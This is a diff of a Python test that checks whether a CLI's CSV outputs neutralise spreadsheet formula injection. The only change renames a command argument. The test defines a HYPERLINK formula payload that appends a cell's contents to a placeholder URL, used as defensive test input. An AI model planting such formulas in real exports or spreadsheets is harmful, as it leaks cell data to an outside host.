@@ -17,7 +17,7 @@ ATTACK = '=HYPERLINK("http://x"&B3,"Open")'
 
 def test_a_theme_typed_as_a_formula_stays_text_in_the_cli_outputs(tmp_path: Path) -> None:
     runner = CliRunner()
-    assert runner.invoke(app, ["coding", "demo", "-o", str(tmp_path)]).exit_code == 0
+    assert runner.invoke(app, ["coding", "synthetic", "-o", str(tmp_path)]).exit_code == 0
     segments = pd.read_csv(tmp_path / "segments.csv", dtype=str, encoding="utf-8-sig")
     segments.loc[segments["theme"] == segments["theme"].iloc[0], "theme"] = ATTACK
     source = tmp_path / "attack.csv"
